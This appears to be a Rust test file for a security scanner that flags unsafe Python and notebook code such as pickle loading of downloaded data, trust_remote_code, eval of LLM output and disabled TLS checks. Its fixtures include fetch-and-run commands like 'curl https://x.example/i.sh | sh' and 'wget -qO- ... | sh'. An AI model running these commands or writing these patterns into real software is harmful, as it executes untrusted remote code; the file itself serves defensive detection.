//! What is said about Python files and notebooks.

#![allow(clippy::unwrap_used, reason = "a test that cannot prepare its world has failed")]

use bartizan_core::{Completeness, Finding, Position, Severity};
use bartizan_inspect::{Findings, Inspect as _, Limits, Source, mutations, recognise};
use bartizan_supply::source::{self, Notebook, Python};
use serde_json::json;

fn python(text: &str) -> (Vec<Finding>, Completeness) {
    let source = Source::from_bytes("app/main.py", text.as_bytes().to_vec(), Limits::default());
    assert!(Python.claims(&source, recognise(&source)) || text.is_empty());
    let mut findings = Findings::new();
    let completeness = Python.inspect(&source, &mut findings);
    (findings.as_slice().to_vec(), completeness)
}

fn notebook(cells: &[(&str, serde_json::Value)]) -> (Vec<Finding>, Completeness) {
    let cells: Vec<_> = cells
        .iter()
        .map(|(source, outputs)| {
            let lines: Vec<&str> = source.split_inclusive('\n').collect();
            json!({"cell_type": "code", "execution_count": 1, "metadata": {}, "source": lines, "outputs": outputs})
        })
        .collect();
    let document =
        json!({"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5});
    let text = serde_json::to_vec_pretty(&document).unwrap();
    let source = Source::from_bytes("explore.ipynb", text, Limits::default());
    assert!(Notebook.claims(&source, recognise(&source)));
    let mut findings = Findings::new();
    let completeness = Notebook.inspect(&source, &mut findings);
    (findings.as_slice().to_vec(), completeness)
}

fn rules(found: &[Finding]) -> Vec<&'static str> {
    found.iter().map(|finding| finding.rule.id).collect()
}

/// Each program with the rules that it breaks and the line of the first finding.
const HOSTILE: &[(&str, &[&str], u64)] = &[
    (
        "from transformers import AutoModel\nm = AutoModel.from_pretrained('./own', trust_remote_code=True)\n",
        &["BZ-SRC-001"],
        2,
    ),
    ("TRUST = True\nload('./own', trust_remote_code=TRUST)\n", &["BZ-SRC-001"], 2),
    ("kwargs = {'trust_remote_code': True}\n", &["BZ-SRC-001"], 1),
    ("opts = dict(trust_remote_code=True)\n", &["BZ-SRC-001"], 1),
    ("import os\nos.environ['HF_DATASETS_TRUST_REMOTE_CODE'] = '1'\n", &["BZ-SRC-001"], 2),
    ("import torch\nm = torch.hub.load('owner/repo', 'resnet')\n", &["BZ-SRC-001"], 2),
    ("import torch\nstate = torch.load('m.pt')\n", &["BZ-SRC-002"], 2),
    ("import torch as t\nstate = t.load(path, map_location='cpu', weights_only=False)\n", &["BZ-SRC-002"], 2),
    ("from torch import load as read\nread(path)\n", &["BZ-SRC-002"], 2),
    ("import torch\nread = getattr(torch, 'load')\nread(path)\n", &["BZ-SRC-002"], 3),
    ("import importlib\nimportlib.import_module('torch').load(path)\n", &["BZ-SRC-002"], 2),
    ("import requests, pickle\nm = pickle.loads(requests.get(url).content)\n", &["BZ-SRC-003"], 2),
    ("import requests, pickle\nr = requests.get(url)\nbody = r.content\nm = pickle.loads(body)\n", &["BZ-SRC-003"], 4),
    (
        "import requests, joblib\nwith open('m.pkl', 'wb') as f:\n    f.write(requests.get(url).content)\nm = joblib.load('m.pkl')\n",
        &["BZ-SRC-003"],
        4,
    ),
    (
        "import pickle\nfrom urllib.request import urlretrieve\nurlretrieve(url, 'm.pkl')\nwith open('m.pkl', 'rb') as f:\n    m = pickle.load(f)\n",
        &["BZ-SRC-003"],
        5,
    ),
    (
        "import pickle\nfrom huggingface_hub import hf_hub_download\nm = pickle.load(open(hf_hub_download(repo, 'm.pkl'), 'rb'))\n",
        &["BZ-SRC-003"],
        3,
    ),
    (
        "import torch\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download(repo, 'm.pt')\nstate = torch.load(p)\n",
        &["BZ-SRC-003"],
        4,
    ),
    ("import pandas as pd\ndf = pd.read_pickle('https://data.example/x.pkl')\n", &["BZ-SRC-003"], 2),
    (
        "import pickle, requests\ndef fetch(u):\n    return requests.get(u).content\ndef main():\n    return pickle.loads(fetch('x'))\n",
        &["BZ-SRC-003"],
        5,
    ),
    ("import socket, pickle\ns = socket.socket()\nx = pickle.loads(s.recv(100))\n", &["BZ-SRC-003"], 3),
    (
        "from langchain_openai import ChatOpenAI\nllm = ChatOpenAI()\nchain = prompt | llm\nr = chain.invoke(q)\neval(r.content)\n",
        &["BZ-SRC-006"],
        5,
    ),
    ("import pickle\nfrom flask import request\ndef h():\n    return pickle.loads(request.data)\n", &["BZ-SRC-003"], 4),
    (
        "import torch, requests, tempfile\nwith tempfile.NamedTemporaryFile() as t:\n    t.write(requests.get(u).content)\n    torch.load(t.name)\n",
        &["BZ-SRC-003"],
        4,
    ),
    (
        "import requests, torch\ndef fetch(url, path):\n    with open(path, 'wb') as f:\n        f.write(requests.get(url).content)\nfetch(u, 'm.pt')\nm = torch.load('m.pt')\n",
        &["BZ-SRC-003"],
        6,
    ),
    ("import numpy as np\na = np.load('a.npy', allow_pickle=True)\n", &["BZ-SRC-004"], 2),
    ("import keras\nkeras.models.load_model('m.keras', safe_mode=False)\n", &["BZ-SRC-004"], 2),
    ("import dill\ndill.load(f)\n", &["BZ-SRC-004"], 2),
    ("import yaml\nyaml.load(text)\n", &["BZ-SRC-005"], 2),
    ("import yaml\nyaml.load(text, Loader=yaml.UnsafeLoader)\n", &["BZ-SRC-005"], 2),
    ("import yaml, requests\nyaml.unsafe_load(requests.get(u).text)\n", &["BZ-SRC-005"], 2),
    (
        "from openai import OpenAI\nclient = OpenAI()\nr = client.chat.completions.create(model='m', messages=[])\ncode = r.choices[0].message.content\nexec(code)\n",
        &["BZ-SRC-006"],
        5,
    ),
    (
        "import subprocess, anthropic\nc = anthropic.Anthropic()\nm = c.messages.create(model='m')\nsubprocess.run(m.content[0].text, shell=True)\n",
        &["BZ-SRC-006"],
        4,
    ),
    ("def act(llm, q):\n    answer = llm.invoke(q)\n    return eval(answer.content)\n", &["BZ-SRC-006"], 3),
    (
        "import os, litellm\nasync def go(q):\n    r = await litellm.acompletion(model='m', messages=q)\n    for line in r.text.splitlines():\n        os.system(f'run {line}')\n",
        &["BZ-SRC-006"],
        5,
    ),
    (
        "class Agent:\n    def __init__(self):\n        self.llm = OpenAI()\n    def go(self, q):\n        code = self.llm.chat.completions.create(messages=q).choices[0].message.content\n        code = code.strip()\n        exec(compile(code, 'x', 'exec'))\n",
        &["BZ-SRC-006"],
        7,
    ),
    ("import requests\nexec(requests.get('https://x.example/a.py').text)\n", &["BZ-SRC-007"], 2),
    (
        "from urllib.request import urlopen\nimport subprocess\nsubprocess.run(['bash', '-c', urlopen(u).read().decode()])\n",
        &["BZ-SRC-007"],
        3,
    ),
    (
        "from mcp.server.fastmcp import FastMCP\nimport subprocess\nmcp = FastMCP('x')\n@mcp.tool()\ndef run(command: str) -> str:\n    return subprocess.check_output(command, shell=True)\n",
        &["BZ-SRC-008"],
        6,
    ),
    (
        "from langchain.tools import tool\n@tool\ndef calc(expression):\n    return eval(expression)\n",
        &["BZ-SRC-008"],
        4,
    ),
    ("import requests\nrequests.get(u, verify=False)\n", &["BZ-SRC-009"], 2),
    ("import requests\ns = requests.Session()\ns.verify = False\n", &["BZ-SRC-009"], 3),
    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n", &["BZ-SRC-009"], 2),
    (
        "import ssl\nctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n",
        &["BZ-SRC-009", "BZ-SRC-009"],
        3,
    ),
    ("import os\nos.environ['CURL_CA_BUNDLE'] = ''\n", &["BZ-SRC-009"], 2),
    (
        "from langchain_community.vectorstores import FAISS\nFAISS.load_local('i', e, allow_dangerous_deserialization=True)\n",
        &["BZ-SRC-010"],
        2,
    ),
    ("from langchain_experimental.tools import PythonREPLTool\ntools = [PythonREPLTool()]\n", &["BZ-SRC-010"], 2),
    ("a = Proxy(code_execution_config={'use_docker': False})\n", &["BZ-SRC-010"], 1),
    ("from transformers import AutoModel\nAutoModel.from_pretrained('owner/model')\n", &["BZ-SRC-011"], 2),
    ("import os\nos.system('curl https://x.example/i.sh | sh')\n", &["BZ-SRC-012"], 2),
    ("import subprocess\nsubprocess.run('pip install --trusted-host h.example p', shell=True)\n", &["BZ-SRC-013"], 2),
];

#[test]
fn every_dangerous_program_is_named_with_its_line() {
    for (program, expected, line) in HOSTILE {
        let (found, completeness) = python(program);
        assert_eq!(rules(&found), *expected, "{program}\n{found:#?}");
        assert_eq!(found[0].location.position, Position::Line(*line), "{program}");
        assert_eq!(completeness, Completeness::Complete, "{program}");
    }
}

#[test]
fn careful_programs_give_no_finding() {
    for program in [
        "import torch\ntorch.load(p, weights_only=True)\ntorch.save(m, p)\n",
        "import torch\ntorch.load(p, weights_only=flag)\n",
        "from transformers import AutoModel\nAutoModel.from_pretrained('./own', trust_remote_code=False)\n",
        "import yaml\nyaml.safe_load(t)\nyaml.load(t, Loader=yaml.SafeLoader)\nyaml.load(t, yaml.CSafeLoader)\n",
        "import numpy as np\nnp.load('a.npy')\nnp.load('a.npy', allow_pickle=False)\n",
        "import json, requests\njson.loads(requests.get(u, timeout=5).text)\n",
        "def load(x): return x\nload('m.pt')\n",
        "class eval: pass\nmodel.eval()\ndf.eval('a + b')\n",
        "import ast\ndef f(llm): return ast.literal_eval(llm.invoke('q'))\n",
        "def f(llm): return int(llm.invoke('q'))\n",
        "import subprocess\nsubprocess.run(['git', 'clone', url], check=True)\n",
        "from langchain.tools import tool\nimport subprocess\n@tool\ndef ls(path: str):\n    return subprocess.run(['ls', path])\n",
        "'''torch.load(x) and trust_remote_code=True in a text'''\n# pickle.load(x)\n",
        "import requests\nrequests.get(u, verify='ca.pem')\nrequests.get(u, verify=True)\n",
        "parser.add_argument('--verify', action='store_false')\n",
        "from transformers import AutoModel\nAutoModel.from_pretrained('o/m', revision='0123456789abcdef0123456789abcdef01234567')\n",
        "AutoModel.from_pretrained(path)\nAutoModel.from_pretrained('./models/own')\n",
        "import os\nos.system('clear')\nos.environ['A'] = '1'\n",
        "exec('x = 1')\neval('1 + 1')\n",
    ] {
        let (found, completeness) = python(program);
        assert!(found.is_empty(), "{program}\n{found:#?}");
        assert_eq!(completeness, Completeness::Complete, "{program}");
    }
}

#[test]
fn a_pinned_commit_lowers_remote_code() {
    let pinned =
        "m.from_pretrained('o/m', trust_remote_code=True, revision='0123456789abcdef0123456789abcdef01234567')\n";
    assert_eq!(python(pinned).0[0].severity, Severity::Low);
    let branch = "m.from_pretrained('o/m', trust_remote_code=True, revision='main')\n";
    assert_eq!(python(branch).0[0].severity, Severity::High);
}

#[test]
fn a_finding_names_where_the_content_came_from() {
    let (found, _) = python("import requests, pickle\nr = requests.get(url)\n\nm = pickle.loads(r.content)\n");
    assert_eq!(found[0].message, "`pickle.loads` of what `requests.get` brought (line 2)");
    assert_eq!(found[0].evidence["from"], json!({"what": "requests.get", "line": 2}));
    let (moved, _) = python("# new\nimport requests, pickle\nr = requests.get(url)\n\nm = pickle.loads(r.content)\n");
    assert_eq!(found[0].identity, moved[0].identity);
}

#[test]
fn notebooks_are_read_cell_by_cell_with_their_magics() {
    let none = json!([]);
    let (found, completeness) = notebook(&[
        ("!pip install torch\nimport torch\n%matplotlib inline\n", none.clone()),
        ("%%time\nstate = torch.load('m.pt')", none.clone()),
        ("!curl -s https://x.example/i.sh | bash", none.clone()),
        ("%%bash\nset -e\nwget -qO- https://x.example/i.sh | sh\n", none.clone()),
        ("%pip install git+https://x.example/r.git", none.clone()),
        ("out = !wget http://x.example/a.txt\n", none.clone()),
        ("%%html\n<script>torch.load(x)</script>", none.clone()),
        (
            "1",
            json!([{"output_type": "display_data", "data": {"text/html": ["<script src=\"https://x.example/a.js\"></script>"]}}]),
        ),
        ("2", json!([{"output_type": "display_data", "data": {"text/html": "<b>7</b>", "text/plain": "7"}}])),
    ]);
    let mut found: Vec<(&str, u64)> = found
        .iter()
        .map(|finding| match finding.location.position {
            Position::Line(line) => (finding.rule.id, line),
            _ => panic!("{finding:?}"),
        })
        .collect();
    found.sort_unstable();
    let lines = ["BZ-SRC-002", "BZ-SRC-012", "BZ-SRC-012", "BZ-SRC-013", "BZ-SRC-014"];
    assert_eq!(found.iter().map(|(rule, _)| *rule).collect::<Vec<_>>(), lines, "{found:?}");
    let distinct: std::collections::BTreeSet<u64> = found.iter().map(|(_, line)| *line).collect();
    assert_eq!(distinct.len(), 5, "{found:?}");
    assert_eq!(completeness, Completeness::Complete);
}

#[test]
fn the_line_of_a_finding_in_a_notebook_is_that_of_its_file() {
    let text = "{\"cells\": [{\"cell_type\": \"code\",\n \"source\": [\n  \"import torch\\n\",\n  \"torch.load(p)\"\n ], \"outputs\": []}],\n \"nbformat\": 4}\n";
    let source = Source::from_bytes("n.ipynb", text.as_bytes().to_vec(), Limits::default());
    let mut findings = Findings::new();
    assert_eq!(Notebook.inspect(&source, &mut findings), Completeness::Complete);
    assert_eq!(findings.as_slice()[0].location.position, Position::Line(4));
    assert_eq!(findings.as_slice()[0].evidence["cell"], 1);
}

#[test]
fn what_is_no_python_is_incomplete_and_the_rest_is_still_read() {
    let (found, completeness) = python("import torch\nprint 'x' 'y' z\ntorch.load(p)\n");
    assert_eq!(rules(&found), ["BZ-SRC-002"]);
    assert!(matches!(&completeness, Completeness::Partial(reason) if reason.contains("line 2")), "{completeness:?}");
    let source = Source::from_bytes("n.ipynb", b"{\"cells\": 7}".to_vec(), Limits::default());
    assert!(!Notebook.inspect(&source, &mut Findings::new()).is_complete());
}

#[test]
fn programs_nested_too_deep_are_incomplete_and_end_soon() {
    for part in ["(", "-", "f(", "[", "lambda a, b: ", "not ", "x if y else ", "f'{", "a."] {
        let program = format!("import torch\nx = {}", part.repeat(300_000));
        let started = std::time::Instant::now();
        let (_, completeness) = python(&program);
        assert!(!completeness.is_complete(), "{part}");
        assert!(started.elapsed().as_secs() < 5, "{part}");
    }
    let blocks: String = (0..1500).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect();
    let _ = python(&format!("import torch\n{blocks}"));
}

#[test]
fn damaged_programs_neither_panic_nor_run_away() {
    let seeds: Vec<Vec<u8>> = HOSTILE.iter().map(|(program, ..)| program.as_bytes().to_vec()).collect();
    for bytes in mutations(&seeds, 7).take(2_000) {
        source::fuzz_one(&bytes);
    }
}
